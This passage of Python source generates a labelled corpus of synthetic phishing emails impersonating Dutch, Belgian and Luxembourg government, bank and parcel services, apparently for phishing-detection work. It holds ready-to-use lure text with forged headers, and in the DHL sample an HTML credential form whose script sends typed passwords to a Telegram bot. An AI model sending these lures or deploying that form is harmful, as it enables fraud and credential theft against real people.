        + button(url, "Gegevens bijwerken", "#ff4612") +
        "<p>Zonder update wordt je itsme&reg;-account op <b>15/10/2024</b> gedeactiveerd en kan je niet meer "
        "inloggen bij je bank en overheidsdiensten.</p><p>Het itsme&reg;-team</p>",
        footer="Belgian Mobile ID NV/SA &bull; Sinter-Goedeleplein 5 &bull; 1000 Brussel"), "itsme")
    raw = message(mailbox(
        seed=seed, when=when, provider="telenet", rcpt=rcpt, hop=hop,
        hops=[rcv(f"[::1] (port=44218 helo={dom})", "s231.webhostingserver.nl", when - timedelta(seconds=1),
                  "esmtpa (Exim 4.97.1)", f"1syF{alnum(seed + 'e', 2)}-00000006{alnum(seed + 'e2', 2)}-{alnum(seed + 'e3', 2)}",
                  for_=rcpt)],
        sig=dkim(dom, "default", seed, signed="Content-Type:MIME-Version:Message-ID:Subject:From:To:Date:Sender:Reply-To:Cc"),
        core=[f"Date: {rfc(when)}", f"To: {rcpt}", f"From: {addr('itsme®', 'wordpress@' + dom)}",
              f"Subject: {enc('Je itsme®-account wordt gedeactiveerd')}", f"Message-ID: {mid(seed, dom, 'phpmailer')}",
              "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)", "MIME-Version: 1.0"]),
        Leaf("text/html", html.encode(), "quoted-printable", '; charset=UTF-8'))
    add("phishing", "phish", "itsme-wordpress-netlify", "itsme 'account wordt gedeactiveerd' lure (Flemish) mailed through a "
        "hacked Belgian WordPress site's PHPMailer, linking to a Netlify-hosted credential page.", raw)


@msg
def p_digid_subdomain():
    seed, when = "digid-verloopt", T(2025, 5, 20, 11, 2, 55)
    rcpt, dom = "h.jansen@planet.nl", "burgerzaken-portaal.nl"
    url = f"https://mijn.digid.nl.verificatie-burger.com/inloggen?r={alnum(seed + 'r', 10)}"
    hop = Hop(ip="213.232.235.18", helo="mx01.burgerzaken-portaal.nl", mailfrom=f"noreply@{dom}", dkim_res="pass",
              dkim_d=dom, dkim_s="dkim", dmarc="pass", hfrom=dom, policy="quarantine")
    plain = ("DigiD\n\nGeachte heer/mevrouw,\n\nUw DigiD is langer dan 3 jaar niet gecontroleerd. Op grond van nieuwe\n"
             "veiligheidsregels moet u uw DigiD vóór 27 mei 2025 opnieuw bevestigen. Doet u dit niet, dan wordt uw\n"
             "DigiD gedeactiveerd en moet u een nieuwe aanvragen (dit duurt 5 werkdagen).\n\n"
             f"Bevestig uw DigiD: {url}\n\nMet vriendelijke groet,\n\nLogius\nDienst digitale overheid\n")
    html = html_doc(card(
        "<p>Geachte heer/mevrouw,</p><p>Uw DigiD is langer dan 3 jaar niet gecontroleerd. Op grond van nieuwe "
        "veiligheidsregels moet u uw DigiD <b>v&oacute;&oacute;r 27 mei 2025</b> opnieuw bevestigen. Doet u dit niet, dan wordt "
        "uw DigiD gedeactiveerd en moet u een nieuwe aanvragen (dit duurt 5 werkdagen).</p>"
        + button(url, "DigiD bevestigen", "#154273") + "<p>Met vriendelijke groet,</p><p>Logius<br>Dienst digitale overheid</p>",
        header='<span style="font-family:Arial;font-size:22px;font-weight:bold;color:#154273;">DigiD</span>',
        footer="Dit bericht is verstuurd door Logius, onderdeel van het ministerie van Binnenlandse Zaken en Koninkrijksrelaties."),
        "DigiD")
    raw = message(mailbox(
        seed=seed, when=when, provider="kpn", rcpt=rcpt, hop=hop,
        hops=[rcv("localhost (localhost [127.0.0.1])", f"mx01.{dom} (Postfix)", when - timedelta(seconds=1), "ESMTP",
                  HX(seed + 'pf', 10))],
        sig=dkim(dom, "dkim", seed, t=when),
        core=[f"From: {addr('DigiD', 'noreply@' + dom)}", f"To: {rcpt}", f"Subject: {enc('Uw DigiD wordt binnenkort gedeactiveerd')}",
              f"Date: {rfc(when)}", f"Message-ID: {mid(seed, dom, 'uuid')}"]),
        alt(seed, plain, html))
    add("phishing", "phish", "digid-subdomain-trick", "DigiD 'wordt gedeactiveerd' lure from a freshly registered .nl "
        "look-alike (passes its own checks) with a link whose host starts with mijn.digid.nl but belongs to another domain.", raw)


@msg
def p_belastingdienst_blob_ses():
    seed, when = "bd-teruggave", T(2025, 4, 24, 18, 40, 12)
    rcpt, dom = "familie.smit@ziggo.nl", "mijn-toeslagen-portaal.com"
    url = f"https://belastingteruggave{digits(seed, 4)}.blob.core.windows.net/$web/index.html?id={alnum(seed + 'i', 12)}"
    mf = f"010201{hx(seed + 'ses', 10)}-{guid(seed + 'sg')}-000000@eu-west-1.amazonses.com"
    hop = Hop(ip="54.240.4.21", helo="a4-21.smtp-out.eu-west-1.amazonses.com", mailfrom=mf, dkim_res="pass",
              dkim_d="amazonses.com", dkim_s="shh3fegwg5fppqsuzphvschd53n6ihuv", dmarc="none", hfrom=dom, policy="none")
    plain = ("Belastingdienst\n\nGeachte heer/mevrouw,\n\nNa de definitieve berekening van uw aanslag inkomstenbelasting 2024\n"
             "heeft u recht op een teruggave van € 386,17. Wij kunnen dit bedrag niet overmaken omdat uw\n"
             "rekeninggegevens niet volledig zijn.\n\n"
             f"Controleer uw gegevens: {url}\n\nMet vriendelijke groet,\nBelastingdienst\n")
    html = html_doc(card(
        "<p>Geachte heer/mevrouw,</p><p>Na de definitieve berekening van uw aanslag inkomstenbelasting 2024 heeft u recht "
        "op een teruggave van <b>&euro;&nbsp;386,17</b>. Wij kunnen dit bedrag niet overmaken omdat uw rekeninggegevens "
        "niet volledig zijn.</p>" + button(url, "Gegevens controleren", "#01689b") +
        "<p>Met vriendelijke groet,<br>Belastingdienst</p>",
        header='<span style="font-family:Arial;font-size:20px;color:#01689b;">Belastingdienst</span>',
        footer="Dit is een automatisch verzonden e-mail. U kunt deze e-mail niet beantwoorden."), "Belastingdienst")
    raw = message(mailbox(
        seed=seed, when=when, provider="ziggo", rcpt=rcpt, hop=hop,
        sig=dkim("amazonses.com", "shh3fegwg5fppqsuzphvschd53n6ihuv", seed,
                 signed="Subject:From:To:MIME-Version:Content-Type:Message-ID:Date:Feedback-ID", t=when),
        core=[f"Subject: {enc('Teruggave inkomstenbelasting 2024 – actie vereist')}", f"From: {addr('Belastingdienst', 'info@' + dom)}",
              f"To: {rcpt}", "MIME-Version: 1.0", f"Message-ID: {mid(seed, dom, 'ses')}", f"Date: {rfc_utc(when)}",
              f"Feedback-ID: ::1.eu-west-1.{urlsafe(seed + 'fid', 40)}=:AmazonSES",
              f"X-SES-Outgoing: {when.strftime('%Y.%m.%d')}-54.240.4.21"]),
        alt(seed, plain, html))
    add("phishing", "phish", "belastingdienst-teruggave-blob", "Belastingdienst tax-refund lure sent through Amazon SES "
        "(only the SES DKIM passes, From domain unaligned) linking to a static page on Azure blob storage.", raw)


@msg
def p_myminfin_spoof_ipfs():
    seed, when = "myminfin", T(2024, 6, 4, 7, 55, 21)
    rcpt = "jp.lefevre@proximus.be"
    url = f"https://bafybei{alnum(seed + 'cid', 52).lower()}.ipfs.dweb.link/myminfin/index.html"
    hop = Hop(ip="103.151.125.66", helo="mail.dongthanhhotel.vn", rdns="static.vnpt.vn", mailfrom="info@dongthanhhotel.vn",
              spf="softfail", dkim_res="none", dmarc="fail", hfrom="minfin.fed.be", policy="none")
    plain = ("SPF FINANCES\n\nCher contribuable,\n\nAprès le dernier calcul annuel de votre activité fiscale, nous avons "
             "déterminé que vous êtes\néligible à un remboursement d'impôt de 412,60 EUR.\n\n"
             f"Connectez-vous à MyMinfin pour recevoir votre remboursement : {url}\n\n"
             "Le délai de traitement est de 3 à 5 jours ouvrables.\n\nSPF Finances\n")
    html = ("<html><body><div style=\"font-family:Arial;font-size:14px;max-width:600px;\">"
            "<p style=\"background:#1d4e89;color:#fff;padding:12px;font-size:18px;\">SPF FINANCES &middot; MyMinfin</p>"
            "<p>Cher contribuable,</p><p>Apr&egrave;s le dernier calcul annuel de votre activit&eacute; fiscale, nous avons "
            "d&eacute;termin&eacute; que vous &ecirc;tes &eacute;ligible &agrave; un remboursement d&#39;imp&ocirc;t de "
            "<b>412,60 EUR</b>.</p>"
            f"<p><a href=\"{url}\">Connectez-vous &agrave; MyMinfin pour recevoir votre remboursement</a></p>"
            "<p>Le d&eacute;lai de traitement est de 3 &agrave; 5 jours ouvrables.</p><p>SPF Finances</p></div></body></html>")
    raw = message(mailbox(
        seed=seed, when=when, provider="proximus", rcpt=rcpt, hop=hop,
        core=[f"From: {addr('SPF Finances - MyMinfin', 'noreply@minfin.fed.be')}", f"To: {rcpt}",
              f"Subject: {enc('Avis de remboursement - Exercice d imposition 2024')}", f"Date: {rfc_tz(when, 7)}",
              f"Message-ID: <{hx(seed, 20)}${hx(seed + 'x', 8)}@dongthanhhotel.vn>", "X-Mailer: Microsoft Outlook Express 6.00.2900.5512",
              "X-MimeOLE: Produced By Microsoft MimeOLE V6.00.2900.5512"]),
        alt(seed, plain, html))
    add("phishing", "phish", "myminfin-spoof-ipfs", "SPF Finances / MyMinfin tax-refund lure in French that spoofs "
        "minfin.fed.be from a Vietnamese server (SPF softfail, DMARC fail) with the page hosted on an IPFS gateway.", raw)


@msg
def p_cjib_compromised_club():
    seed, when = "cjib-boete", T(2025, 11, 14, 8, 27, 40)
    rcpt, dom = "k.mulder88@hotmail.com", "vv-oranjeboys.nl"
    short = f"https://bit.ly/4{alnum(seed + 'b', 6)}"
    hop = Hop(ip="37.97.254.27", helo="outbound3.mail.transip.nl", mailfrom=f"secretariaat@{dom}", dkim_res="pass",
              dkim_d=dom, dkim_s="transip-a", dmarc="pass", hfrom=dom, policy="none")
    plain = ("Centraal Justitieel Incassobureau\n\nAanmaning\n\nGeachte heer/mevrouw,\n\nOndanks eerdere herinneringen hebben wij "
             "de betaling van uw verkeersboete\n(kenmerk 8" + digits(seed + 'k', 15) + ") van € 115,00 nog niet ontvangen.\n\n"
             "Als u niet binnen 48 uur betaalt, wordt het bedrag verhoogd met € 57,50 en kan een\ndeurwaarder worden ingeschakeld.\n\n"
             f"Betaal direct met iDEAL: {short}\n\nCJIB\nPostbus 1794, 8901 CB Leeuwarden\n")
    html = ("<div style=\"font-family:Calibri,Arial;font-size:15px;\"><p><b>Centraal Justitieel Incassobureau</b></p>"
            "<p><b>Aanmaning</b></p><p>Geachte heer/mevrouw,</p><p>Ondanks eerdere herinneringen hebben wij de betaling van "
            f"uw verkeersboete (kenmerk 8{digits(seed + 'k', 15)}) van &euro;&nbsp;115,00 nog niet ontvangen.</p><p>Als u niet "
            "binnen 48 uur betaalt, wordt het bedrag verhoogd met &euro;&nbsp;57,50 en kan een deurwaarder worden "
            f"ingeschakeld.</p><p><a href=\"{short}\">Betaal direct met iDEAL</a></p><p>CJIB<br>Postbus 1794, 8901 CB "
            "Leeuwarden</p></div>")
    raw = message(mailbox(
        seed=seed, when=when, provider="outlook", rcpt=rcpt, hop=hop,
        hops=[rcv(f"webmail.transip.nl (unknown [{'196.251.73.18'}])", "submission14.mail.transip.nl (Postfix)",
                  when - timedelta(seconds=1), "ESMTPA", HX(seed + 'tp', 12))],
        sig=dkim(dom, "transip-a", seed, signed="from:from:reply-to:subject:subject:date:date:message-id:message-id:to:to:cc\n\t"
                 ":mime-version:mime-version:content-type:content-type", t=when),
        core=["MIME-Version: 1.0", f"Date: {rfc(when)}", f"From: {addr('CJIB', 'secretariaat@' + dom)}",
              f"To: {addr('', 'undisclosed-recipients:;')}" if False else "To: undisclosed-recipients:;",
              f"Subject: {enc('Aanmaning verkeersboete – laatste herinnering')}",
              f"Message-ID: <{hx(seed + 'rc', 32)}@{dom}>", "X-Sender: secretariaat@" + dom,
              "User-Agent: Roundcube Webmail/1.6.7"]),
        alt(seed, plain, html))
    add("phishing", "phish", "cjib-aanmaning-club", "CJIB 'aanmaning verkeersboete' payment lure sent in bulk (undisclosed "
        "recipients) from the hijacked secretariat mailbox of a Dutch football club (SPF/DKIM/DMARC pass), bit.ly link "
        "to a fake iDEAL page.", raw)


@msg
def p_berichtenbox_r2():
    seed, when = "berichtenbox", T(2025, 7, 9, 6, 58, 30)
    rcpt, dom = "wim.dekker.1956@gmail.com", "overheid-meldingen.info"
    url = f"https://pub-{hx(seed + 'r2', 32)}.r2.dev/mijnoverheid/inloggen.html"
    hop = Hop(ip="193.29.57.102", helo="vmi2291817.contaboserver.net", mailfrom=f"bericht@{dom}", dkim_res="none",
              spf="pass", dmarc="none", hfrom=dom, policy="none")
    plain = ("MijnOverheid\n\nU heeft een nieuw bericht in uw Berichtenbox.\n\nAfzender: Belastingdienst\n"
             "Onderwerp: Voorlopige aanslag 2025 - betalingsachterstand\n\n"
             f"Bekijk uw bericht: {url}\n\nU kunt het bericht lezen door in te loggen met DigiD.\n")
    html = ("<table width=\"100%\" cellpadding=\"0\" cellspacing=\"0\"><tr><td style=\"background:#154273;padding:14px;"
            "color:#fff;font-family:Arial;font-size:18px;\">MijnOverheid</td></tr><tr><td style=\"padding:18px;"
            "font-family:Arial;font-size:14px;\"><p>U heeft een nieuw bericht in uw Berichtenbox.</p>"
            "<p>Afzender: Belastingdienst<br>Onderwerp: Voorlopige aanslag 2025 - betalingsachterstand</p>"
            f"<p><a href=\"{url}\" style=\"color:#154273;font-weight:bold;\">Bekijk uw bericht</a></p><p>U kunt het bericht "
            "lezen door in te loggen met DigiD.</p></td></tr></table>")
    raw = message(mailbox(
        seed=seed, when=when, provider="gmail", rcpt=rcpt, hop=hop,
        core=[f"From: {addr('MijnOverheid', 'bericht@' + dom)}", f"To: {rcpt}",
              f"Subject: {enc('Nieuw bericht in uw Berichtenbox')}", f"Date: {rfc(when)}",
              f"Message-ID: {mid(seed, dom, 'phpmailer')}", "X-Mailer: Microsoft Outlook 16.0"]),
        alt(seed, plain, html))
    add("phishing", "phish", "berichtenbox-r2dev", "MijnOverheid 'nieuw bericht in uw Berichtenbox' lure from a Contabo VPS "
        "(own domain, no DKIM) pointing to a DigiD-styled page on Cloudflare r2.dev.", raw)


# ---------------------------------------------------------------------------
# attacks: parcels, marketplaces, payments, retail, transport
# ---------------------------------------------------------------------------

@msg
def p_postnl_bezorgkosten():
    seed, when = "postnl-kosten", T(2024, 12, 3, 13, 18, 5)
    rcpt, dom = "d.visser@live.nl", "postnl-track.shop"
    url = f"https://pakketservice-postnl.shop/nl/betaling/?zending=3S{alnum(seed + 'z', 13).upper()}"
    hop = Hop(ip="80.66.88.203", helo="mail.postnl-track.shop", mailfrom=f"service@{dom}", dkim_res="pass", dkim_d=dom,
              dkim_s="202412", dmarc="pass", hfrom=dom, policy="none")
    code = "3S" + alnum(seed + 'z', 13).upper()
    plain = ("PostNL\n\nBeste klant,\n\nWe hebben vandaag geprobeerd je pakket te bezorgen, maar er moeten nog\n"
             "bezorgkosten van € 1,95 worden voldaan. Je pakket ligt 48 uur voor je klaar.\n\n"
             f"Zendingnummer: {code}\n\nBetaal en kies een nieuw bezormoment: {url}\n\nGroet,\nPostNL\n")
    html = html_doc(card(
        f"<p>Beste klant,</p><p>We hebben vandaag geprobeerd je pakket te bezorgen, maar er moeten nog bezorgkosten van "
        f"<b>&euro;&nbsp;1,95</b> worden voldaan. Je pakket ligt 48 uur voor je klaar.</p><p>Zendingnummer: <b>{code}</b></p>"
        + button(url, "Nieuw bezorgmoment kiezen", "#ff6200") + "<p>Groet,<br>PostNL</p>",
        header='<span style="font-family:Arial;font-size:22px;font-weight:bold;color:#001e82;">PostNL</span>',
        footer="&copy; 2024 PostNL Holding B.V."), "PostNL")
    raw = message(mailbox(
        seed=seed, when=when, provider="outlook", rcpt=rcpt, hop=hop,
        hops=[rcv("[127.0.0.1] (localhost [127.0.0.1])", f"mail.{dom} (Postfix)", when - timedelta(seconds=1), "ESMTPSA",
                  HX(seed + 'pf', 10))],
        sig=dkim(dom, "202412", seed, t=when),
        core=[f"From: {addr('PostNL', 'service@' + dom)}", f"To: {rcpt}", f"Subject: {enc('Je pakket kon niet worden bezorgd')}",
              f"Date: {rfc(when)}", f"Message-ID: {mid(seed, dom, 'uuid')}", "X-Mailer: Sendy"]),
        alt(seed, plain, html))
    add("phishing", "phish", "postnl-bezorgkosten", "PostNL 'bezorgkosten € 1,95' parcel lure from a fresh .shop domain "
        "(own DKIM) sending to a card-harvesting payment page on another .shop domain.", raw)


@msg
def p_bpost_douane_mailjet():
    seed, when = "bpost-douane", T(2025, 1, 16, 15, 39, 27)
    rcpt, dom = "nathalie.gillet@gmail.com", "livraison-colis-info.com"
    target = "https://suivi-bpost.com/fr/paiement?id=" + alnum(seed + "t", 10)
    track = (f"https://{alnum(seed + 'mj', 5).lower()}.mjt.lu/lnk/AU{alnum(seed + 'l1', 40)}/1/{alnum(seed + 'l2', 22)}/"
             + base64.urlsafe_b64encode(target.encode()).decode().rstrip("="))
    mf = f"bnc3mm1{alnum(seed + 'bn', 16).lower()}@bnc3.mailjet.com"
    hop = Hop(ip="87.253.232.111", helo="o111.p8.mailjet.com", mailfrom=mf, dkim_res="pass", dkim_d="mailjet.com",
              dkim_s="mailjet", dmarc="none", hfrom=dom, policy="none")
    plain = ("bpost\n\nBonjour,\n\nVotre colis est retenu au centre de tri de Bruxelles X. Des frais de dédouanement\n"
             "de 2,99 EUR doivent être réglés avant la livraison.\n\n"
             f"Régler les frais : {track}\n\nSans paiement sous 72 heures, le colis sera renvoyé à l'expéditeur.\n\nbpost\n")
    html = html_doc(card(
        "<p>Bonjour,</p><p>Votre colis est retenu au centre de tri de <b>Bruxelles X</b>. Des frais de d&eacute;douanement "
        "de <b>2,99&nbsp;EUR</b> doivent &ecirc;tre r&eacute;gl&eacute;s avant la livraison.</p>"
        + button(track, "R&eacute;gler les frais", "#ef2637") +
        "<p>Sans paiement sous 72 heures, le colis sera renvoy&eacute; &agrave; l&#39;exp&eacute;diteur.</p>",
        header='<span style="font-family:Arial;font-size:22px;font-weight:bold;color:#ef2637;">bpost</span>',
        footer="bpost SA de droit public &ndash; Centre Monnaie, 1000 Bruxelles") +
        f'<img src="https://{alnum(seed + "mj", 5).lower()}.mjt.lu/oo/AU{alnum(seed + "oo", 40)}/{alnum(seed + "oo2", 8)}/e.gif" '
        'height="1" width="1" alt="" border="0">', "bpost", "fr")
    raw = message(mailbox(
        seed=seed, when=when, provider="gmail", rcpt=rcpt, hop=hop,
        sig=dkim("mailjet.com", "mailjet", seed, signed="message-id:date:subject:from:to:mime-version:content-type:list-unsubscribe"),
        core=[f"Message-Id: <{guid(seed + 'mj')}@mailjet.com>".replace("@mailjet.com", f"@{dom}"),
              f"X-MJ-Mid: AU{alnum(seed + 'mid', 30)}", "X-CSA-Complaints: csa-complaints@eco.de",
              f"List-Unsubscribe: <mailto:unsub-{alnum(seed + 'un', 20).lower()}@bnc3.mailjet.com>",
              f"Date: {rfc_utc(when)}", f"From: {addr('bpost', 'suivi@' + dom)}", f"To: {rcpt}",
              f"Subject: {enc('Votre colis est en attente de dédouanement')}", "X-Mailer: Mailjet"]),
        alt(seed, plain, html))
    add("phishing", "phish", "bpost-douane-mailjet", "bpost 'frais de dédouanement 2,99 EUR' lure in French sent through an "
        "abused Mailjet account (only Mailjet's DKIM, unaligned), tracked link to a fake payment site.", raw)


@msg
def p_dhl_html_form():
    seed, when = "dhl-htmlform", T(2025, 2, 25, 9, 4, 51)
    tenant = "vanleeuwen-logistiek.nl"
    rcpt, dom = f"planning@{tenant}", "dhl-shipment-notice.com"
    bot = f"https://api.telegram.org/bot{digits(seed + 'tg', 10)}:AAH{alnum(seed + 'tg2', 32)}/sendMessage"
    page = ("<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>DHL Express | Document Viewer</title>\n"
            "<style>body{font-family:Arial;background:#ffcc00;margin:0}.box{background:#fff;width:380px;margin:80px auto;"
            "padding:28px;border-radius:6px}input{width:100%;padding:10px;margin:6px 0}button{background:#d40511;color:#fff;"
            "border:0;padding:12px;width:100%}</style></head><body>\n<div class=\"box\"><h3>DHL Express</h3>\n"
            "<p>Sign in with your email account to view the shipping document (AWB 5523" + digits(seed, 6) + ").</p>\n"
            f"<form id=\"f\"><input id=\"e\" type=\"email\" value=\"{rcpt}\" readonly>\n"
            "<input id=\"p\" type=\"password\" placeholder=\"Password\" required>\n<button type=\"submit\">View Document</button></form>\n"
            "</div>\n<script>\ndocument.getElementById('f').onsubmit=function(ev){ev.preventDefault();\n"
            "var m='DHL|'+document.getElementById('e').value+'|'+document.getElementById('p').value;\n"
            f"fetch('{bot}',{{method:'POST',headers:{{'Content-Type':'application/json'}},\n"
            f"body:JSON.stringify({{chat_id:'-100{digits(seed + 'chat', 10)}',text:m}})}})\n"
            ".then(function(){window.location.href='https://www.dhl.com/nl-en/home/tracking.html';});};\n"
            "</script></body></html>\n")
    hop = Hop(ip="5.181.156.47", helo=f"mail.{dom}", mailfrom=f"express@{dom}", spf="pass", dkim_res="none",
              dmarc="none", hfrom=dom, policy="none")
    plain = ("Dear Customer,\n\nYour shipment AWB 5523" + digits(seed, 6) + " is on hold at our Amsterdam facility due to an\n"
             "incomplete delivery address. Please review the attached shipping document and confirm.\n\n"
             "Failure to confirm within 2 working days will result in the shipment being returned.\n\n"
             "Kind regards,\nDHL Express Customer Service\n")
    html = ("<div style=\"font-family:Arial;font-size:13px;\"><p style=\"background:#ffcc00;padding:10px;color:#d40511;"
            "font-weight:bold;font-size:18px;\">DHL EXPRESS</p><p>Dear Customer,</p><p>Your shipment <b>AWB 5523"
            + digits(seed, 6) + "</b> is on hold at our Amsterdam facility due to an incomplete delivery address. Please "
            "review the attached shipping document and confirm.</p><p>Failure to confirm within 2 working days will result "
            "in the shipment being returned.</p><p>Kind regards,<br>DHL Express Customer Service</p></div>")
    body = Multi("mixed", boundary(seed + "m"), [alt(seed, plain, html),
                                                 attachment("text/html", f"AWB_5523{digits(seed, 6)}.html", page.encode())])
    raw = message(mailbox(
        seed=seed, when=when, provider="m365:" + tenant, rcpt=rcpt, hop=hop,
        core=[f"From: {addr('DHL Express', 'express@' + dom)}", f"To: {rcpt}",
              f"Subject: {enc('DHL Shipment Notification: AWB 5523' + digits(seed, 6) + ' on hold')}",
              f"Date: {rfc(when)}", f"Message-ID: {mid(seed, dom)}", "X-Priority: 3"]),
        body)
    add("phishing", "phish", "dhl-html-credential-form", "DHL 'shipment on hold' mail to a small logistics firm's M365 "
        "mailbox carrying an HTML attachment that is a local credential form posting the password to a Telegram bot.", raw)


@msg
def p_postlu_github():
    seed, when = "postlu-colis", T(2025, 8, 21, 17, 12, 9)
    rcpt = "famille.weber@pt.lu"
    sender = "post.lu.livraison@outlook.com"
    url = f"https://postlu-suivi.github.io/colis/?n=LU{digits(seed + 'n', 9)}"
    kw, hops, sig, pr, sub = m365_out(seed, when, "outlook.com", sender, consumer=True)
    hop = Hop(**kw, dkim_res="pass", dkim_d="outlook.com", dkim_s="selector1", dmarc="pass", hfrom="outlook.com", policy="none")
    plain = ("POST Luxembourg\n\nBonjour,\n\nNous n'avons pas pu livrer votre colis LU" + digits(seed + 'n', 9) + " car "
             "l'adresse est incomplète.\nVeuillez confirmer votre adresse et régler les frais de réexpédition (1,49 EUR).\n\n"
             f"{url}\n\nMerci,\nPOST Luxembourg\n")
    paras = "\n".join(mso_p(x) for x in [
        "<b>POST Luxembourg</b>", "", "Bonjour,", "",
        "Nous n&#39;avons pas pu livrer votre colis LU" + digits(seed + 'n', 9) + " car l&#39;adresse est incompl&egrave;te. "
        "Veuillez confirmer votre adresse et r&eacute;gler les frais de r&eacute;exp&eacute;dition (1,49 EUR).", "",
        f'<a href="{url}">Confirmer la livraison</a>', "", "Merci,", "POST Luxembourg"])
    raw = message(mailbox(seed=seed, when=when, provider="postlu", rcpt=rcpt, hop=hop, hops=hops, sig=sig,
                          core=outlook_core(seed, when, addr("POST Luxembourg", sender), rcpt,
                                            "Votre colis n'a pas pu être livré", pr, sub, lang="fr-FR")),
                  outlook_body(seed, plain, paras))
    add("phishing", "phish", "postlu-colis-outlook-githubio", "POST Luxembourg undelivered-parcel lure in French sent from a "
        "free Outlook.com account with the brand as display name, link to a github.io page asking for card details.", raw)


@msg
def p_marktplaats_koper():
    seed, when = "mp-koper", T(2025, 5, 3, 20, 44, 17)
    rcpt, sender = "lisa.vermeer84@gmail.com", "dennis.koopman.2201@gmail.com"
    url = f"https://marktplaats.gelijk-oversteken.icu/ontvang/{digits(seed + 'o', 10)}"
    kw, hops, sig = gmail_out(seed, when, sender, rcpt)
    plain = ("Hoi Lisa,\n\nIk heb je advertentie gezien op Marktplaats (Bugaboo Fox 3 kinderwagen). Is die nog te koop?\n"
             "Ik heb het bedrag van € 420 al betaald via Gelijk Oversteken, dan kan de koerier het maandag ophalen.\n"
             "Je moet alleen nog even je rekening bevestigen om het geld te ontvangen:\n\n"
             f"{url}\n\nGroetjes,\nDennis\n")
    raw = message(mailbox(seed=seed, when=when, provider="gmail", rcpt=rcpt, hop=Hop(**kw), hops=hops, sig=sig,
                          core=gmail_core(seed, when, addr("Dennis Koopman", sender), rcpt, "Bugaboo Fox 3 - nog beschikbaar?")),
                  gmail_body(seed, plain))
    add("phishing", "phish", "marktplaats-gelijk-oversteken", "Marktplaats 'buyer' scam moved to mail: a Gmail account "
        "claims to have paid via Gelijk Oversteken and sends the seller to a fake payout page to harvest bank/card data.", raw)


@msg
def p_2ememain_acheteur():
    seed, when = "2ememain", T(2025, 9, 6, 11, 30, 2)
    rcpt, sender = "sophie.martin@skynet.be", "julien.dumont.1990@outlook.fr"
    url = f"https://2ememain.be-paiement-securise.com/recevoir/{alnum(seed + 'r', 12)}"
    kw, hops, sig, pr, sub = m365_out(seed, when, "outlook.fr", sender, consumer=True)
    hop = Hop(**kw, dkim_res="pass", dkim_d="outlook.fr", dkim_s="selector1", dmarc="pass", hfrom="outlook.fr", policy="none")
    plain = ("Bonjour Sophie,\n\nJe suis intéressé par votre table de salon en chêne sur 2ememain. J'ai déjà effectué le\n"
             "paiement de 180 € via le paiement sécurisé 2ememain, un livreur passera la chercher demain.\n"
             f"Pour recevoir l'argent, il faut juste confirmer votre carte ici : {url}\n\nMerci et bonne journée,\nJulien\n")
    paras = "\n".join(mso_p(x) for x in [
        "Bonjour Sophie,", "",
        "Je suis int&eacute;ress&eacute; par votre table de salon en ch&ecirc;ne sur 2ememain. J&#39;ai d&eacute;j&agrave; "
        "effectu&eacute; le paiement de 180 &euro; via le paiement s&eacute;curis&eacute; 2ememain, un livreur passera la "
        "chercher demain.",
        f'Pour recevoir l&#39;argent, il faut juste confirmer votre carte ici : <a href="{url}">{url}</a>', "",
        "Merci et bonne journ&eacute;e,", "Julien"])
    raw = message(mailbox(seed=seed, when=when, provider="proximus", rcpt=rcpt, hop=hop, hops=hops, sig=sig,
                          core=outlook_core(seed, when, addr("Julien Dumont", sender), rcpt, "Table de salon 2ememain",
                                            pr, sub, lang="fr-FR")),
                  outlook_body(seed, plain, paras))
    add("phishing", "phish", "2ememain-paiement-securise", "2ememain 'buyer has already paid' scam in French from a free "
        "outlook.fr account, sending the seller to a fake secure-payment page to enter card details.", raw)


@msg
def p_tikkie_verzoek():
    seed, when = "tikkie", T(2024, 8, 27, 12, 6, 45)
    rcpt, dom = "e.bos@kpnmail.nl", "tikkie-verzoek.com"
    url = f"https://tikkie-verzoek.com/p/{alnum(seed + 'p', 16)}"
    hop = Hop(ip="89.185.85.12", helo=f"smtp.{dom}", mailfrom=f"noreply@{dom}", dkim_res="pass", dkim_d=dom, dkim_s="default",
              dmarc="pass", hfrom=dom, policy="none")
    plain = ("Tikkie\n\nHoi!\n\nMarleen van Wijk heeft je een Tikkie gestuurd.\n\nBedrag: € 0,01\nOmschrijving: Verificatie "
             "terugbetaling Vinted\n\n"
             f"Betaal je Tikkie: {url}\n\nNa de verificatie ontvang je € 64,50 terug op je rekening.\n")
    html = html_doc(card(
        "<p style=\"font-size:20px;font-weight:bold;color:#4b3eaf;\">Tikkie</p><p>Hoi!</p><p><b>Marleen van Wijk</b> heeft je "
        "een Tikkie gestuurd.</p><table style=\"font-family:Arial;font-size:15px;\"><tr><td>Bedrag</td><td><b>&euro;&nbsp;0,01"
        "</b></td></tr><tr><td>Omschrijving&nbsp;&nbsp;</td><td>Verificatie terugbetaling Vinted</td></tr></table><br>"
        + button(url, "Betaal je Tikkie", "#4b3eaf") + "<p>Na de verificatie ontvang je &euro;&nbsp;64,50 terug op je rekening.</p>",
        footer="Tikkie is een dienst van ABN AMRO Bank N.V."), "Tikkie")
    raw = message(mailbox(
        seed=seed, when=when, provider="kpn", rcpt=rcpt, hop=hop, sig=dkim(dom, "default", seed),
        core=[f"Date: {rfc(when)}", f"To: {rcpt}", f"From: {addr('Tikkie', 'noreply@' + dom)}",
              f"Subject: {enc('Marleen van Wijk heeft je een Tikkie gestuurd')}", f"Message-ID: {mid(seed, dom, 'phpmailer')}",
              "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"]),
        alt(seed, plain, html))
    add("phishing", "phish", "tikkie-verificatie", "Fake Tikkie payment request of € 0,01 'to verify a refund' from a "
        "look-alike domain; the payment page is a fake iDEAL bank login.", raw)


@msg
def p_bol_survey_gcs():
    seed, when = "bol-survey", T(2025, 10, 19, 22, 15, 38)
    rcpt, dom = "tom.hendriks.nl@gmail.com", "ruhxpqe.info"
    url = f"https://storage.googleapis.com/bol-beloning-{hx(seed, 6)}/index.html#{alnum(seed + 'h', 18)}"
    img = f"https://storage.googleapis.com/bol-beloning-{hx(seed, 6)}/img/dyson-v15.jpg"
    hop = Hop(ip="141.98.11.140", helo=f"mail{digits(seed, 2)}.{dom}", mailfrom=f"bounce-{digits(seed + 'b', 6)}@{dom}",
              spf="pass", dkim_res="pass", dkim_d=dom, dkim_s="s1", dmarc="none", hfrom=dom, policy="none")
    junk = " ".join(["zorgvuldig aandeel vlinder stoep nachtegaal lantaarn", "hoogspanning kussen rivier boterham",
                     "kalender tornado fluit appelboom marmot"])
    html = ("<html><body><center>\n"
